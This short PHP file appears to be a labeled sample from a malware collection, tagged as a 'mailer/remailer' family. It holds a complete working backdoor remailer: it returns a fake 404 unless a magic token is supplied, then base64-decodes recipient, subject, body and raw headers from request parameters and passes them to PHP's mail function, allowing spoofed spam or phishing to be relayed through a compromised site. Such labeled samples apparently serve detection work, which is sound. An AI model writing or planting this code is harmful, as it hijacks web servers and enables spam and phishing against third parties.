<?php
/* Family: mailer/remailer
 * Style: remailer with decoded values in variables
 * Trait: request values decoded into variables first, then passed to the send call; magic token check
 */
if (@$_REQUEST['tok'] !== 'a8f3') { header('HTTP/1.0 404 Not Found'); exit; }
$to = base64_decode($_REQUEST['to']);
$subj = base64_decode($_REQUEST['subj']);
$msg = base64_decode($_REQUEST['msg']);
$hdr = base64_decode($_REQUEST['hdr']);
echo (int)@mail($to, $subj, $msg, $hdr);
